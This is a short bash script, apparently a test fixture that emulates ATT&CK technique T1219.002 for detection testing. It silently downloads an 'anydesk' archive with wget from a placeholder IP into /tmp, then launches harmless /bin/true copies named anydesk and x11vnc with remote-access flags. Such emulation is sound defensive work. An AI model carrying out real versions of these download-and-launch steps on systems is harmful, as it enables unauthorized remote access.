#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1219.002 Remote Desktop Software: done in another way than in tests/data/techniques, or there not at all.
wget -q http://203.0.113.70/anydesk.tar.gz -O /tmp/anydesk.tar.gz; cp /bin/true /tmp/anydesk; /tmp/anydesk --get-id; cp /bin/true /tmp/x11vnc; /tmp/x11vnc -forever
